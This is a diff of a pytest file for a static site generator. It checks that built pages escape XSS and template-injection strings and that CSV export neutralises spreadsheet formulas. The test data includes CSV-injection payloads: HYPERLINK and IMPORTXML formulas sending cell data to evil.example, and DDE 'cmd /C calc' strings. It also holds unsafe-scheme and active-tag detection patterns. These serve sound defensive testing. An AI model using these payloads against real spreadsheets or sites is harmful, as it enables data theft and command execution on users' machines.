@@ -16,72 +16,18 @@ import json
 import re
 import shutil
 import xml.etree.ElementTree as ET
-from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
 import yaml
 
-from helpers import BASE_SITE, STAGE, TOUCHPOINT, diagnose, json_diagnostics, make_site, run_cli
-from hostile_corpus import BIG, REFUSED, THEME_SCRIPTS, build_corpus, pages, prepare_corpus, shared_build
+from helpers import TOUCHPOINT, diagnose, json_diagnostics, make_site, run_cli
+from hostile_corpus import BIG, REFUSED, IdCollector, build_corpus, markup_problems, pages, prepare_corpus, shared_build
 from journeymap.build import build
 from journeymap.diagnostics import DiagnosticError
 from journeymap.links import classify
 from journeymap.markdown import render
 from journeymap.output import _safe_path, write_site
-
-UNSAFE_SCHEME = re.compile(r"^(javascript|data|vbscript|file):", re.I)
-URL_ATTRS = {"href", "src", "xlink:href", "action", "formaction", "srcset", "poster", "data", "background", "ping"}
-ACTIVE_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "foreignobject", "base", "form",
-               "style", "link", "meta", "svg", "img", "math", "template", "noscript"}
-# Elements the theme writes itself; any other appearance of an ACTIVE_TAGS element is content markup.
-THEME_ALLOWED = {"svg", "img", "link", "meta", "form", "noscript", "script"}
-
-
-def _clean(value: str) -> str:
-    """An attribute value as a browser reads its scheme: control characters and whitespace removed."""
-    return re.sub(r"[\x00-\x20\x7f-\x9f]", "", value)
-
-
-class _Markup(HTMLParser):
-    """Collects what a page's markup would make a browser do: elements, attributes, script sources."""
-
-    def __init__(self) -> None:
-        super().__init__(convert_charrefs=True)
-        self.problems: list[str] = []
-        self.ids: list[str] = []
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        values = {name: value or "" for name, value in attrs}
-        if tag in ACTIVE_TAGS and tag not in THEME_ALLOWED:
-            self.problems.append(f"<{tag}> element")
-        if tag == "script":
-            src = values.get("src", "")
-            json_data = values.get("type") == "application/json" and values.get("id") == "jm-site"
-            if not (json_data or any(src.endswith(name) for name in THEME_SCRIPTS)):
-                self.problems.append(f"script {values}")
-        if tag == "img" and "onerror" in values:
-            self.problems.append("img onerror")
-        if tag == "meta" and "http-equiv" in values:
-            self.problems.append("meta http-equiv")
-        for name, value in values.items():
-            if name.startswith("on"):
-                self.problems.append(f"<{tag} {name}=...>")
-            if name in URL_ATTRS and UNSAFE_SCHEME.match(_clean(value)):
-                self.problems.append(f"<{tag} {name}={value[:40]!r}>")
-            if name in URL_ATTRS and _clean(value).startswith(("//", "/\\", "\\")):
-                self.problems.append(f"<{tag} {name}={value[:40]!r}> leaves the site")
-            if name == "style" and re.search(r"url\(|expression|javascript|[;{}]\s*\w+\s*\{", value, re.I):
-                self.problems.append(f"<{tag} style={value[:40]!r}>")
-            if name == "id":
-                self.ids.append(value)
-
-
-def markup_problems(html: str) -> list[str]:
-    parser = _Markup()
-    parser.feed(html)
-    parser.close()
-    return parser.problems
 
 
 @pytest.fixture(scope="module")
@@ -113,6 +59,8 @@ def test_built_pages_contain_no_markup_from_content(corpus_site: Path) -> None:
     journey = (corpus_site / "journeys/xss/index.html").read_text(encoding="utf-8")
     assert "&lt;script&gt;alert(1)&lt;/script&gt; journey &#34;quoted&#34; &amp; &#39;single&#39;" in journey
     assert "<script>alert" not in journey
+    stage = (corpus_site / "journeys/xss/stages/location/index.html").read_text(encoding="utf-8")
+    assert "{{ 7*7 }} {% if true %}ssti{% endif %}" in stage  # content is never a template
     thought = (corpus_site / "journeys/xss/touchpoints/bidi/index.html").read_text(encoding="utf-8")
     assert BIG.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("'", "&#39;") in thought
 
@@ -148,7 +96,7 @@ def test_map_svgs_are_well_formed_and_inert(corpus_site: Path) -> None:
 def test_ids_in_pages_never_take_theme_ids(corpus_site: Path) -> None:
     """Headings named after theme ids (jm-site, main) or DOM globals cannot clobber the theme's elements."""
     for rel in ("journeys/xss/index.html", "journeys/xss/touchpoints/title/index.html"):
-        parser = _Markup()
+        parser = IdCollector()
         parser.feed((corpus_site / rel).read_text(encoding="utf-8"))
         assert parser.ids.count("jm-site") == 1, rel
         assert parser.ids.count("main") == 1, rel
@@ -352,3 +300,36 @@ def test_corpus_build_writes_only_inside_site_dir(tmp_path: Path) -> None:
     media = sorted(p.relative_to(site_dir).as_posix() for p in (site_dir / "media").rglob("*") if p.is_file())
     assert media == ["media/images/a..b.png", "media/images/my photo ü.png", "media/images/фото.png"]
 
+
+
+# --- exports: content cannot become a spreadsheet formula -----------------------------------------
+
+
+def test_csv_export_neutralises_formulas_and_reads_back(tmp_path: Path) -> None:
+    """A cell that a spreadsheet would run (=, +, -, @, tab, CR) is exported behind a "'"; import
+    drops that "'", so the journey reads back exactly (CSV injection)."""
+    import csv
+    import io
+
+    from journeymap.interchange.csvsheet import export_csv, parse_sheet
+    from journeymap.model import load_site
+
+    root = make_site(tmp_path / "project", {TOUCHPOINT: front_matter({
+        "title": '=HYPERLINK("https://evil.example/?"&A1,"click")', "stage": "buy", "action": "+cmd|' /C calc'!A0",
+        "thought": "@SUM(1+1)*cmd|' /C calc'!A0", "frontstage": ["-2+3+cmd|' /C calc'!A0"], "backstage": ["=1+1"],
+        "support": ["'quoted already"], "pain_points": [{"title": "=1+1", "description": "-1"}],
+        "extra": {"kpi": "=IMPORTXML(CONCAT(\"https://evil.example/?\", A1), \"//a\")"}}, "=1+1 in the notes\n")})
+    site, _ = load_site(root)
+    assert site is not None
+    journey = site.journeys["j"]
+    text = export_csv(site, journey)
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert cells and not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    back, problems = parse_sheet(text, "j.csv", site, "j")
+    assert back is not None and not [d for d in problems if d.is_error], problems
+    original = journey.touchpoints[0]
+    assert back.touchpoints[0].meta == original.meta and back.touchpoints[0].body.strip() == original.body.strip()
+
+
+def front_matter(data: dict, body: str = "") -> str:
+    return "---\n" + yaml.safe_dump(data, allow_unicode=True, sort_keys=False) + "---\n" + body
